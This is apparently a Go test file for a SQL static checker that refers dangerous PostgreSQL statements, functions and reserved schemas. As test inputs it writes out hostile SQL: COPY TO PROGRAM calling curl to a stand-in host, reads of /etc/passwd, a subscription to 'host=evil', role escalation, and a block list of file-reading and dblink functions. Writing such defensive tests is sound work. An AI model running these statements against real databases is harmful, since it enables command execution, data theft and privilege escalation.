package sqlcheck

// Fail-closed invariants of the static check (DESIGN.md sections 2 and 5).
// Each test runs against a delegation that grants every operation on every
// column of every ordinary table, so the only thing that can make a
// statement refer is the property under test; a control statement proves
// each template would otherwise conform.

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"

	pg "github.com/pganalyze/pg_query_go/v6"
	"google.golang.org/protobuf/reflect/protoreflect"
)

var (
	invOnce sync.Once
	invCat  *Catalog
	invErr  error
)

// corpusCatalog is the corpus schema (testdata/corpus/schema.sql), which
// includes the reserved harbormaster.receipts.
func corpusCatalog(t testing.TB) *Catalog {
	t.Helper()
	invOnce.Do(func() {
		var ddl []byte
		ddl, invErr = os.ReadFile(filepath.Join("..", "..", "testdata", "corpus", "schema.sql"))
		if invErr == nil {
			invCat, invErr = ParseSchemaDDL(string(ddl), nil)
		}
	})
	if invErr != nil {
		t.Fatalf("corpus schema: %v", invErr)
	}
	return invCat
}

// grantAll returns select, insert, update and delete rules listing every
// column of every table of cat, reserved tables included: the widest bound
// a (compromised) compiler could hand the checker.
func grantAll(cat *Catalog) []Rule {
	var rules []Rule
	for _, t := range cat.Tables() {
		for _, op := range []Op{OpSelect, OpInsert, OpUpdate, OpDelete} {
			cols := t.ColumnNames()
			if op == OpDelete {
				cols = nil
			}
			rules = append(rules, Rule{Index: len(rules), Op: op, Table: t.Name, Columns: cols})
		}
	}
	return rules
}

func checkSQL(cat *Catalog, sql string, rules []Rule) Decision {
	return Check(Analyze(sql, cat, Limits{}), rules)
}

// TestInvariantOnlyFourStatementKinds: everything but SELECT, INSERT,
// UPDATE and DELETE refers, and so do the SELECT forms that write or lock.
func TestInvariantOnlyFourStatementKinds(t *testing.T) {
	t.Parallel()
	cat := corpusCatalog(t)
	rules := grantAll(cat)
	const na = CodeStatementNotAllow
	for _, tc := range []struct{ sql, code string }{
		{"EXPLAIN SELECT id FROM orders", na},
		{"EXPLAIN ANALYZE DELETE FROM orders", na},
		{"COPY orders TO STDOUT", na},
		{"COPY (SELECT id FROM orders) TO PROGRAM 'curl evil'", na},
		{"COPY orders FROM '/etc/passwd'", na},
		{"DO $$BEGIN DELETE FROM orders; END$$", na},
		{"CALL refresh_everything()", na},
		{"SET search_path = harbormaster", na},
		{"SET LOCAL statement_timeout = 0", na},
		{"SET ROLE postgres", na},
		{"SET SESSION AUTHORIZATION postgres", na},
		{"SET TRANSACTION ISOLATION LEVEL READ UNCOMMITTED", na},
		{"SET CONSTRAINTS ALL DEFERRED", na},
		{"RESET ALL", na},
		{"RESET ROLE", na},
		{"SHOW ALL", na},
		{"LOCK orders IN ACCESS EXCLUSIVE MODE", na},
		{"BEGIN", na},
		{"START TRANSACTION", na},
		{"COMMIT", na},
		{"ROLLBACK", na},
		{"SAVEPOINT s", na},
		{"RELEASE SAVEPOINT s", na},
		{"ROLLBACK TO SAVEPOINT s", na},
		{"PREPARE TRANSACTION 'x'", na},
		{"COMMIT PREPARED 'x'", na},
		{"PREPARE p AS DELETE FROM orders", na},
		{"EXECUTE p", na},
		{"DEALLOCATE ALL", na},
		{"MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE", na},
		{"LISTEN c", na},
		{"NOTIFY c, 'x'", na},
		{"UNLISTEN *", na},
		{"TRUNCATE orders", na},
		{"VACUUM FULL orders", na},
		{"ANALYZE orders", na},
		{"GRANT ALL ON orders TO PUBLIC", na},
		{"REVOKE ALL ON orders FROM PUBLIC", na},
		{"DECLARE c CURSOR FOR SELECT id FROM orders", na},
		{"FETCH ALL FROM c", na},
		{"MOVE NEXT IN c", na},
		{"CLOSE c", na},
		{"CREATE TABLE t AS SELECT id FROM orders", na},
		{"CREATE MATERIALIZED VIEW mv AS SELECT id FROM orders", na},
		{"REFRESH MATERIALIZED VIEW mv", na},
		{"DISCARD ALL", na},
		{"LOAD 'plpgsql'", na},
		{"CHECKPOINT", na},
		{"CREATE TABLE t (id int)", na},
		{"CREATE TEMP TABLE t (id int)", na},
		{"DROP TABLE orders", na},
		{"ALTER TABLE orders DROP COLUMN status", na},
		{"ALTER TABLE orders DISABLE ROW LEVEL SECURITY", na},
		{"CREATE INDEX ON orders (id)", na},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", na},
		{"CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", na},
		{"ALTER FUNCTION f() SECURITY DEFINER", na},
		{"CREATE ROLE r SUPERUSER", na},
		{"ALTER ROLE CURRENT_USER SUPERUSER", na},
		{"CREATE VIEW v AS SELECT id FROM orders", na},
		{"CREATE SCHEMA s", na},
		{"CREATE TRIGGER tr BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", na},
		{"CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING", na},
		{"CREATE POLICY p ON orders USING (true)", na},
		{"COMMENT ON TABLE orders IS 'x'", na},
		{"SECURITY LABEL ON TABLE orders IS 'x'", na},
		{"REINDEX TABLE orders", na},
		{"CLUSTER orders USING orders_pkey", na},
		{"ALTER SYSTEM SET fsync = off", na},
		{"CREATE EXTENSION dblink", na},
		{"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", na},
		{"CREATE USER MAPPING FOR PUBLIC SERVER s", na},
		{"IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public", na},
		{"ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", na},
		{"REASSIGN OWNED BY shop TO postgres", na},
		{"DROP OWNED BY shop", na},
		{"CREATE PUBLICATION p FOR ALL TABLES", na},
		{"CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", na},
		{"CREATE SEQUENCE s", na},
		{"ALTER SEQUENCE s RESTART", na},
		{"CREATE TYPE t AS (a int)", na},
		{"CREATE DOMAIN d AS int", na},
		{"CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", na},
		{"CREATE TABLESPACE ts LOCATION '/tmp'", na},
		{"CREATE DATABASE d", na},
		{"DROP DATABASE shop", na},
		{"CREATE CAST (int AS text) WITH INOUT", na},
		{"CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)", na},
		{"CREATE AGGREGATE a (int) (SFUNC = int4pl, STYPE = int)", na},
		{"CREATE LANGUAGE plperlu", na},
		{"CREATE STATISTICS s ON id, status FROM orders", na},
		{"CREATE ACCESS METHOD am TYPE TABLE HANDLER heap_tableam_handler", na},
		{"CREATE COLLATION c (locale = 'C')", na},
		{"CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f", na},
		{"ALTER LARGE OBJECT 1 OWNER TO shop", na},
		{"SELECT id INTO TEMP t FROM orders", CodeSelectInto},
		{"SELECT id INTO t FROM orders", CodeSelectInto},
		{"SELECT id FROM orders FOR UPDATE", CodeLockingClause},
		{"SELECT id FROM orders FOR NO KEY UPDATE", CodeLockingClause},
		{"SELECT id FROM orders FOR SHARE", CodeLockingClause},
		{"SELECT id FROM orders FOR KEY SHARE SKIP LOCKED", CodeLockingClause},
		{"SELECT id FROM (SELECT id FROM orders FOR UPDATE) s", CodeLockingClause},
		{"WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d", CodeWritableCTE},
	} {
		d := checkSQL(cat, tc.sql, rules)
		if d.Outcome != Refer || !d.HasCode(tc.code) {
			t.Errorf("%s: %s %v, want refer with %s", tc.sql, d.Outcome, d.ReasonStrings(), tc.code)
		}
	}
	// Controls: the four kinds themselves are decided on their merits.
	for _, sql := range []string{
		"SELECT id FROM orders",
		"INSERT INTO orders (id, status) VALUES (1, 'x')",
		"UPDATE orders SET status = 'x' WHERE id = 1",
		"DELETE FROM orders WHERE id = 1",
	} {
		if d := checkSQL(cat, sql, rules); d.Outcome != Conforms {
			t.Errorf("control %s: %s %v, want conforms", sql, d.Outcome, d.ReasonStrings())
		}
	}
}

type nodeType struct {
	name string   // the message name, "SelectStmt"
	node *pg.Node // a Node holding an empty message of that type
}

// nodeTypes returns every alternative of the pg.Node oneof.
func nodeTypes() []nodeType {
	var out []nodeType
	fields := (&pg.Node{}).ProtoReflect().Descriptor().Oneofs().ByName("node").Fields()
	for i := 0; i < fields.Len(); i++ {
		fd := fields.Get(i)
		n := &pg.Node{}
		m := n.ProtoReflect()
		m.Set(fd, protoreflect.ValueOfMessage(m.NewField(fd).Message()))
		out = append(out, nodeType{name: string(fd.Message().Name()), node: n})
	}
	return out
}

// TestInvariantEveryOtherNodeTypeRefers builds a top-level statement, an
// expression and a FROM item of every node type the parser has, and checks
// that the walker refers for each one outside its reviewed vocabulary (and
// never panics). A node type added to pg_query, or a walker case that
// silently accepts, fails here until someone reviews it.
func TestInvariantEveryOtherNodeTypeRefers(t *testing.T) {
	t.Parallel()
	cat := corpusCatalog(t)
	types := nodeTypes()
	if len(types) < 200 {
		t.Fatalf("only %d node types found: the oneof lookup is broken", len(types))
	}
	statements := map[string]bool{"SelectStmt": true, "InsertStmt": true, "UpdateStmt": true, "DeleteStmt": true}
	// The expression nodes the walker understands. An empty one of these may
	// walk clean; every other type must refer.
	expressions := map[string]bool{
		"A_Const": true, "SetToDefault": true, "Integer": true, "Float": true, "Boolean": true, "String": true,
		"NullTest": true, "BooleanTest": true, "TypeCast": true, "CollateClause": true,
		"CaseExpr": true, "CaseWhen": true, "CoalesceExpr": true, "MinMaxExpr": true, "NullIfExpr": true,
		"RowExpr": true, "A_ArrayExpr": true, "List": true, "A_Indirection": true, "GroupingFunc": true,
		"GroupingSet": true, "NamedArgExpr": true, "MultiAssignRef": true, "SelectStmt": true, "BoolExpr": true,
	}
	fromItems := map[string]bool{"RangeSubselect": true, "RangeFunction": true, "JoinExpr": true}
	for _, nt := range types {
		t.Run(nt.name, func(t *testing.T) {
			if !statements[nt.name] {
				w := newWalker(cat)
				kind, target := w.statement(nt.node)
				if kind != "" || target != nil || !hasCode(w.reasons, CodeStatementNotAllow) {
					t.Errorf("as a statement: kind %q, reasons %v, want statement_not_allowed", kind, w.reasons)
				}
				if d := Check(&Analysis{Facts: w.facts(kind, target), Reasons: w.reasons}, grantAll(cat)); d.Outcome != Refer {
					t.Errorf("as a statement: decided %s", d.Outcome)
				}
			}
			if !expressions[nt.name] {
				w := newWalker(cat)
				w.expr(nt.node, &scope{})
				if len(w.reasons) == 0 {
					t.Errorf("as an expression: no reason to refer")
				}
			}
			if !fromItems[nt.name] {
				w := newWalker(cat)
				w.fromItem(nt.node, &scope{})
				if len(w.reasons) == 0 {
					t.Errorf("as a FROM item: no reason to refer")
				}
			}
		})
	}
}

func hasCode(rs []Reason, code string) bool {
	for _, r := range rs {
		if r.Code == code {
			return true
		}
	}
	return false
}

// TestInvariantUnknownRelationRefers: a relation the catalog does not hold
// refers wherever it is named, even under a delegation granting everything.
func TestInvariantUnknownRelationRefers(t *testing.T) {
	t.Parallel()
	cat := corpusCatalog(t)
	rules := grantAll(cat)
	for _, sql := range []string{
		"SELECT * FROM nope",
		"SELECT id FROM public.nope",
		"SELECT id FROM shop.orders",
		"SELECT id FROM other.orders",
		"SELECT id FROM billing.orders",
		"SELECT id FROM \"Orders\"",
		"SELECT id FROM \"ORDERS\"",
		"SELECT id FROM \"orders \"",
		"SELECT id FROM shopdb.public.orders",
		"SELECT o.id FROM orders o JOIN nope n ON n.id = o.id",
		"SELECT id FROM orders WHERE id IN (SELECT id FROM nope)",
		"SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM public.nope)",
		"SELECT id FROM (SELECT id FROM nope) s",
		"SELECT o.id FROM orders o, LATERAL (SELECT id FROM nope WHERE nope.id = o.id) l",
		"WITH c AS (SELECT id FROM nope) SELECT id FROM c",
		"WITH c AS (SELECT id FROM orders) SELECT id FROM c, d",
		"SELECT id FROM orders UNION SELECT id FROM nope",
		"INSERT INTO nope (id) VALUES (1)",
		"INSERT INTO orders (id, status) SELECT id, 'x' FROM nope",
		"UPDATE nope SET id = 1",
		"UPDATE orders SET status = 'x' FROM nope WHERE nope.id = orders.id",
		"DELETE FROM nope",
		"DELETE FROM orders USING nope WHERE nope.id = orders.id",
		"SELECT id FROM orders_view",
		"SELECT id FROM ONLY nope",
	} {
		d := checkSQL(cat, sql, rules)
		if d.Outcome != Refer || !d.HasCode(CodeUnknownRelation) {
			t.Errorf("%s: %s %v, want refer with %s", sql, d.Outcome, d.ReasonStrings(), CodeUnknownRelation)
		}
	}
}

// dangerousFunctions are built-ins with side effects, that reveal server or
// session state, reach the system catalog or the file system, or are not
// deterministic. None may ever be on the allow-list.
var dangerousFunctions = []string{
	"pg_sleep", "pg_sleep_for", "pg_sleep_until", "set_config", "current_setting", "nextval", "setval",
	"currval", "lastval", "pg_notify", "pg_listening_channels", "pg_advisory_lock", "pg_advisory_xact_lock",
	"pg_try_advisory_lock", "pg_advisory_unlock_all", "pg_stat_reset", "pg_stat_reset_shared",
	"pg_logical_emit_message", "dblink", "dblink_exec", "dblink_connect", "dblink_send_query",
	"lo_import", "lo_export", "lo_unlink", "lo_create", "lo_open", "loread", "lowrite", "lo_get", "lo_put",
	"lo_from_bytea", "pg_read_file", "pg_read_binary_file", "pg_ls_dir", "pg_ls_waldir", "pg_ls_logdir",
	"pg_stat_file", "pg_file_write", "query_to_xml", "table_to_xml", "cursor_to_xml", "database_to_xml",
	"schema_to_xml", "pg_terminate_backend", "pg_cancel_backend", "pg_reload_conf", "pg_rotate_logfile",
	"txid_current", "txid_current_snapshot", "pg_current_xact_id", "pg_export_snapshot", "version",
	"inet_server_addr", "inet_client_addr", "pg_backend_pid", "pg_postmaster_start_time", "pg_conf_load_time",
	"has_table_privilege", "has_database_privilege", "pg_has_role", "to_regclass", "to_regproc",
	"pg_get_viewdef", "pg_get_functiondef", "pg_get_userbyid", "pg_relation_filepath", "pg_table_size",
	"pg_database_size", "current_database", "current_schemas", "pg_switch_wal", "pg_create_restore_point",
	"pg_import_system_collations", "pg_promote", "pg_create_logical_replication_slot",
	"pg_drop_replication_slot", "pg_replication_origin_create", "pg_log_backend_memory_contexts",
	"pg_stat_get_activity", "pg_xact_commit_timestamp", "random", "random_normal", "setseed",
	"gen_random_bytes", "clock_timestamp", "timeofday", "crypt", "digest", "hmac", "pgp_sym_encrypt",
	"pg_typeof", "row_security_active", "txid_status",
}

// sessionValueFunctions are SQL keywords the parser turns into session
// values rather than function calls.
var sessionValueFunctions = []string{"current_user", "session_user", "current_role", "user", "current_catalog", "current_schema", "system_user"}

// positions are statement templates with one expression slot, %[1]s. Each
// one conforms under grantAll when the slot holds an allowed function, so
// a refer can come only from what fills the slot.
var positions = []struct{ name, sql string }{
	{"select list", "SELECT id, %[1]s FROM orders"},
	{"WHERE", "SELECT id FROM orders WHERE %[1]s IS NOT NULL"},
	{"ORDER BY", "SELECT id FROM orders ORDER BY %[1]s"},
	{"GROUP BY", "SELECT count(*) FROM orders GROUP BY %[1]s"},
	{"GROUPING SETS", "SELECT count(*) FROM orders GROUP BY GROUPING SETS ((%[1]s), ())"},
	{"HAVING", "SELECT status FROM orders GROUP BY status HAVING %[1]s IS NOT NULL"},
	{"DISTINCT ON", "SELECT DISTINCT ON (%[1]s) id FROM orders"},
	{"LIMIT", "SELECT id FROM orders LIMIT %[1]s"},
	{"OFFSET", "SELECT id FROM orders OFFSET %[1]s"},
	{"FROM", "SELECT o.id FROM orders o, %[1]s AS f"},
	{"FROM LATERAL function", "SELECT o.id FROM orders o CROSS JOIN LATERAL %[1]s AS f"},
	{"JOIN ON", "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND %[1]s IS NOT NULL"},
	{"LATERAL", "SELECT o.id FROM orders o, LATERAL (SELECT %[1]s AS x) l"},
	{"CTE", "WITH c AS (SELECT %[1]s AS x) SELECT id FROM orders, c"},
	{"CTE in subquery", "SELECT id FROM orders WHERE EXISTS (WITH c AS (SELECT %[1]s AS x) SELECT 1 FROM c)"},
	{"scalar subquery", "SELECT id FROM orders WHERE total_cents > (SELECT %[1]s)"},
	{"IN subquery", "SELECT id FROM orders WHERE id IN (SELECT %[1]s)"},
	{"EXISTS subquery", "SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM customers WHERE %[1]s IS NOT NULL)"},
	{"subquery in FROM", "SELECT s.x FROM orders, (SELECT %[1]s AS x) s"},
	{"VALUES", "SELECT o.id FROM orders o, (VALUES (%[1]s)) AS v(x)"},
	{"UNION arm", "SELECT id FROM orders UNION SELECT %[1]s"},
	{"INSERT VALUES", "INSERT INTO orders (id, status) VALUES (1, %[1]s)"},
	{"INSERT second row", "INSERT INTO orders (id, status) VALUES (1, 'x'), (2, %[1]s)"},
	{"INSERT SELECT", "INSERT INTO orders (id, status) SELECT 1, %[1]s"},
	{"ON CONFLICT target WHERE", "INSERT INTO orders (id, status) VALUES (1, 'x') ON CONFLICT (id) WHERE %[1]s IS NOT NULL DO NOTHING"},
	{"INSERT RETURNING", "INSERT INTO orders (id, status) VALUES (1, 'x') RETURNING %[1]s"},
	{"UPDATE SET", "UPDATE orders SET status = %[1]s WHERE id = 1"},
	{"UPDATE SET row", "UPDATE orders SET (status, updated_at) = (SELECT %[1]s, now()) WHERE id = 1"},
	{"UPDATE WHERE", "UPDATE orders SET status = 'x' WHERE id = %[1]s"},
	{"UPDATE FROM", "UPDATE orders SET status = 'x' FROM (SELECT %[1]s AS x) s WHERE orders.id = 1"},
	{"UPDATE RETURNING", "UPDATE orders SET status = 'x' WHERE id = 1 RETURNING %[1]s"},
	{"DELETE WHERE", "DELETE FROM orders WHERE id = %[1]s"},
	{"DELETE USING", "DELETE FROM orders USING (SELECT %[1]s AS x) s WHERE orders.id = 1"},
	{"RETURNING", "DELETE FROM orders WHERE id = 1 RETURNING id, %[1]s"},
	{"CASE arm", "SELECT CASE WHEN id > 0 THEN %[1]s ELSE NULL END FROM orders"},
	{"CASE condition", "SELECT CASE WHEN %[1]s IS NULL THEN 1 END FROM orders"},
	{"CASE operand", "SELECT CASE %[1]s WHEN 1 THEN 'a' END FROM orders"},
	{"CASE ELSE", "SELECT CASE WHEN id > 0 THEN 1 ELSE %[1]s END FROM orders"},
	{"COALESCE arg", "SELECT coalesce(status, %[1]s) FROM orders"},
	{"NULLIF arg", "SELECT nullif(%[1]s, 1) FROM orders"},
	{"GREATEST arg", "SELECT greatest(id, %[1]s) FROM orders"},
	{"function arg", "SELECT lower(CAST(%[1]s AS text)) FROM orders"},
	{"aggregate arg", "SELECT max(%[1]s) FROM orders"},
	{"aggregate ORDER BY", "SELECT string_agg(status, ',' ORDER BY %[1]s) FROM orders"},
	{"aggregate FILTER", "SELECT count(*) FILTER (WHERE %[1]s IS NOT NULL) FROM orders"},
	{"window PARTITION BY", "SELECT row_number() OVER (PARTITION BY %[1]s) FROM orders"},
	{"window ORDER BY", "SELECT rank() OVER (ORDER BY %[1]s) FROM orders"},
	{"named WINDOW", "SELECT rank() OVER w FROM orders WINDOW w AS (PARTITION BY %[1]s)"},
	{"window frame", "SELECT sum(id) OVER (ORDER BY id ROWS BETWEEN %[1]s PRECEDING AND CURRENT ROW) FROM orders"},
	{"IN list", "SELECT id FROM orders WHERE id IN (1, %[1]s)"},
	{"ANY array", "SELECT id FROM orders WHERE id = ANY (ARRAY[%[1]s])"},
	{"BETWEEN", "SELECT id FROM orders WHERE id BETWEEN 1 AND %[1]s"},
	{"IS DISTINCT FROM", "SELECT id FROM orders WHERE id IS DISTINCT FROM %[1]s"},
	{"ROW", "SELECT ROW(id, %[1]s) FROM orders"},
	{"cast", "SELECT CAST(%[1]s AS text) FROM orders"},
	{"boolean", "SELECT id FROM orders WHERE NOT (%[1]s IS NULL) AND true"},
}

// spellings writes a function call the ways the parser accepts.
func spellings(fn string) []string {
	return []string{
		fn + "(1)",
		"pg_catalog." + fn + "(1)",
		`"` + fn + `"(1)`,
		strings.ToUpper(fn) + "(1)",
		"PG_CATALOG." + strings.ToUpper(fn) + " (1)",
	}
}

// TestInvariantFunctionsOffTheAllowListRefer is the cross product of every
// dangerous built-in (in every spelling), every session-value keyword and
// user-defined functions with every position a function can sit in.
func TestInvariantFunctionsOffTheAllowListRefer(t *testing.T) {
	t.Parallel()
	cat := corpusCatalog(t)
	rules := grantAll(cat)
	for _, p := range positions {
		for _, ctl := range spellings("abs") {
			sql := fmt.Sprintf(p.sql, ctl)
			if d := checkSQL(cat, sql, rules); d.Outcome != Conforms {
				t.Fatalf("control %s: %s %v: the template must conform with an allowed function", sql, d.Outcome, d.ReasonStrings())
			}
		}
	}
	// Every function in every position, each pair in one spelling; the
	// spelling rotates so that every spelling meets every position and
	// every function.
	var calls [][]string
	for _, fn := range dangerousFunctions {
		calls = append(calls, spellings(fn))
	}
	for _, call := range append(sessionValueFunctions,
		"pg_catalog.current_user()", "my_func(1)", "public.my_func(1)", "public.lower(1)", "public.abs(1)",
		"harbormaster.mint(1)", `"Abs"(1)`, "pg_temp.abs(1)", "information_schema._pg_expandarray(ARRAY[1])",
		"other.pg_catalog.abs(1)") {
		calls = append(calls, []string{call})
	}
	checked := 0
	for i, p := range positions {
		t.Run(p.name, func(t *testing.T) {
			for j, spelled := range calls {
				call := spelled[(i+j)%len(spelled)]
				sql := fmt.Sprintf(p.sql, call)
				d := checkSQL(cat, sql, rules)
				checked++
				if d.Outcome != Refer || !d.HasCode(CodeFunctionNotAllowed) {
					t.Errorf("%s: %s %v, want refer with %s", sql, d.Outcome, d.ReasonStrings(), CodeFunctionNotAllowed)
				}
			}
		})
	}
	if want := len(positions) * len(calls); checked != want || len(positions) < 18 || len(dangerousFunctions) < 40 {
		t.Errorf("checked %d statements over %d positions and %d functions", checked, len(positions), len(dangerousFunctions))
	}
}

// TestInvariantAllowListExcludesDangerous: the allow-list never grows to
// hold a function with effects or that reveals state.
func TestInvariantAllowListExcludesDangerous(t *testing.T) {
	t.Parallel()
	allowed := map[string]bool{}
	for _, f := range AllowedFunctions() {
		allowed[f] = true
		if f != strings.ToLower(f) || strings.ContainsAny(f, ". \"") {
			t.Errorf("allow-list entry %q is not a bare lower-case name", f)
		}
		if strings.HasPrefix(f, "pg_") || strings.HasPrefix(f, "lo_") || strings.HasPrefix(f, "dblink") ||
			strings.HasPrefix(f, "txid") || strings.HasPrefix(f, "set_") || strings.HasPrefix(f, "has_") ||
			strings.HasSuffix(f, "_to_xml") {
			t.Errorf("allow-list entry %q belongs to a family that is never allowed", f)
		}
	}
	for _, f := range append(append([]string(nil), dangerousFunctions...), sessionValueFunctions...) {
		if allowed[f] || AllowedFunction(f) {
			t.Errorf("%s is on the allow-list", f)
		}
	}
	if len(allowed) < 50 {
		t.Errorf("the allow-list has only %d functions", len(allowed))
	}
}

// TestInvariantReservedSchemasUnreachable: the harbormaster schema, the
// system catalogs and information_schema are never reachable, in any
// position or spelling, even when the catalog holds them, the search path
// leads to them and a rule (which bound.Compile would never sign) names
// them.
func TestInvariantReservedSchemasUnreachable(t *testing.T) {
	t.Parallel()
	reserved := []Table{
		{Name: TableName{"harbormaster", "receipts"}, Columns: []Column{{Name: "marque_id"}, {Name: "id"}}},
		{Name: TableName{"harbormaster", "orders"}, Columns: []Column{{Name: "id"}}},
		{Name: TableName{"pg_catalog", "pg_authid"}, Columns: []Column{{Name: "id"}, {Name: "rolpassword"}}},
		{Name: TableName{"pg_catalog", "orders"}, Columns: []Column{{Name: "id"}}},
		{Name: TableName{"information_schema", "tables"}, Columns: []Column{{Name: "id"}}},
		{Name: TableName{"pg_toast", "pg_toast_1"}, Columns: []Column{{Name: "id"}}},
		{Name: TableName{"pg_temp", "scratch"}, Columns: []Column{{Name: "id"}}},
	}
	base := corpusCatalog(t)
	var tables []Table
	for _, tb := range base.Tables() {
		if tb.Name.Schema != "harbormaster" {
			tables = append(tables, Table{Name: tb.Name, Columns: tb.Columns})
		}
	}
	tables = append(tables, reserved...)
	for _, searchPath := range [][]string{{"public"}, {"harbormaster", "public"}, {"pg_catalog", "public"}, {"pg_temp", "information_schema", "public"}} {
		cat, err := NewCatalog(tables, searchPath)
		if err != nil {
			t.Fatal(err)
		}
		rules := grantAll(cat)
		names := []string{
			"harbormaster.receipts", `"harbormaster"."receipts"`, "HARBORMASTER.RECEIPTS",
			`U&"\0068arbormaster".receipts`, "harbormaster.orders", "pg_catalog.pg_authid", "pg_catalog.orders",
			`"pg_catalog".pg_authid`, "information_schema.tables", "pg_toast.pg_toast_1", "pg_temp.scratch",
			"pg_authid", "pg_class", `"pg_class"`,
		}
		switch searchPath[0] {
		case "harbormaster":
			names = append(names, "receipts")
		case "pg_temp":
			names = append(names, "scratch", "tables")
		}
		for _, name := range names {
			for _, tmpl := range []string{
				"SELECT * FROM %s",
				"SELECT id FROM %s",
				"SELECT o.id FROM orders o JOIN %s r ON true",
				"SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM %s)",
				"SELECT id FROM orders WHERE id IN (SELECT id FROM %s)",
				"SELECT s.id FROM (SELECT id FROM %s) s",
				"SELECT o.id FROM orders o, LATERAL (SELECT 1 FROM %s) l",
				"WITH c AS (SELECT id FROM %s) SELECT id FROM c",
				"SELECT id FROM orders UNION ALL SELECT id FROM %s",
				"INSERT INTO %s (id) VALUES (1)",
				"INSERT INTO orders (id) SELECT id FROM %s",
				"UPDATE %s SET id = 1",
				"UPDATE orders SET status = 'x' FROM %s r WHERE orders.id = 1",
				"DELETE FROM %s",
				"DELETE FROM orders USING %s r WHERE orders.id = 1",
				"SELECT id FROM ONLY %s",
			} {
				sql := fmt.Sprintf(tmpl, name)
				d := checkSQL(cat, sql, rules)
				if d.Outcome != Refer || !d.HasCode(CodeReservedSchema) {
					t.Errorf("search path %v: %s: %s %v, want refer with %s", searchPath, sql, d.Outcome, d.ReasonStrings(), CodeReservedSchema)
				}
				if d.Facts != nil {
					for _, r := range d.Facts.Relations {
						if IsReservedSchema(r.Schema) {
							t.Errorf("%s: reserved %s among the facts", sql, r)
						}
					}
				}
			}
		}
		// Control: the ordinary table is still reachable under this path.
		if searchPath[0] != "pg_catalog" {
			if d := checkSQL(cat, "SELECT id FROM public.orders", rules); d.Outcome != Conforms {
				t.Errorf("search path %v: control: %s %v", searchPath, d.Outcome, d.ReasonStrings())
			}
		}
	}
	for _, s := range []string{"harbormaster", "pg_catalog", "information_schema", "pg_toast", "pg_temp_3", "pg_anything"} {
		if !IsReservedSchema(s) {
			t.Errorf("IsReservedSchema(%q) = false", s)
		}
	}
	for _, s := range []string{"public", "billing", "Harbormaster", "pgx", ""} {
		if IsReservedSchema(s) {
			t.Errorf("IsReservedSchema(%q) = true", s)
		}
	}
}

// TestInvariantOperatorsOffTheAllowListRefer: operators outside pg_catalog
// or off the list refer, in the forms the parser produces.
func TestInvariantOperatorsOffTheAllowListRefer(t *testing.T) {
	t.Parallel()
	cat := corpusCatalog(t)
	rules := grantAll(cat)
	for _, sql := range []string{
		"SELECT id FROM orders WHERE id OPERATOR(public.=) 1",
		"SELECT id FROM orders WHERE id OPERATOR(harbormaster.+) 1 > 0",
		"SELECT id FROM orders WHERE id === 1",
		"SELECT id FROM orders WHERE id <-> 1 > 0",
		"SELECT id FROM orders WHERE id = ANY (SELECT id FROM orders) AND id -|- 1",
		"SELECT id FROM orders ORDER BY id USING ===",
		"SELECT id FROM orders WHERE id OPERATOR(public.=) ANY (ARRAY[1])",
	} {
		d := checkSQL(cat, sql, rules)
		if d.Outcome != Refer || !d.HasCode(CodeOperatorNotAllowed) {
			t.Errorf("%s: %s %v, want refer with %s", sql, d.Outcome, d.ReasonStrings(), CodeOperatorNotAllowed)
		}
	}
	if d := checkSQL(cat, "SELECT id FROM orders WHERE id OPERATOR(pg_catalog.=) 1", rules); d.Outcome != Conforms {
		t.Errorf("control: %s %v", d.Outcome, d.ReasonStrings())
	}
}

// TestAllowListDocumented: docs/security.md names every allowed function
// (as `name`), so the documented allow-list is the enforced one; and the
// bullet list under "The complete allow-list" names nothing else.
func TestAllowListDocumented(t *testing.T) {
	t.Parallel()
	doc, err := os.ReadFile(filepath.Join("..", "..", "docs", "security.md"))
	if errors.Is(err, fs.ErrNotExist) {
		if os.Getenv("CI") == "true" {
			t.Fatal("docs/security.md is missing")
		}
		t.Skip("docs/security.md does not exist yet")
	}
	if err != nil {
		t.Fatal(err)
	}
	text := string(doc)
	var missing []string
	for _, f := range AllowedFunctions() {
		if !strings.Contains(text, "`"+f+"`") && !strings.Contains(text, "`"+f+"()`") {
			missing = append(missing, f)
		}
	}
	sort.Strings(missing)
	if len(missing) > 0 {
		t.Errorf("docs/security.md does not name %d allowed functions: %s", len(missing), strings.Join(missing, ", "))
	}

	_, list, found := strings.Cut(text, "The complete allow-list")
	if !found {
		t.Log(`docs/security.md has no "The complete allow-list" section: only the names were checked`)
		return
	}
	var bullets []string
	for _, line := range strings.Split(list, "\n")[1:] {
		if strings.HasPrefix(line, "- ") {
			bullets = append(bullets, line)
		} else if len(bullets) > 0 && strings.TrimSpace(line) != "" {
			break
		}
	}
	documented := regexp.MustCompile("`([a-z0-9_]+)(?:\\(\\))?`").FindAllStringSubmatch(strings.Join(bullets, "\n"), -1)
	if len(documented) < len(AllowedFunctions()) {
		t.Errorf("the allow-list section names %d functions, the code allows %d", len(documented), len(AllowedFunctions()))
	}
	for _, m := range documented {
		if !AllowedFunction(m[1]) {
			t.Errorf("docs/security.md lists %s as allowed; the code does not allow it", m[1])
		}
	}
}

// TestFunctionInFromResolvesLeftSiblingsFirst is the regression test for a
// false conforms: a function in FROM is implicitly LATERAL, so an
// unqualified column in its arguments names the FROM items to its left
// before any outer level. The walker used to look only at the outer
// levels, and credited orders.updated_at (not readable) to
// customers.updated_at (readable). PostgreSQL returns orders.updated_at.
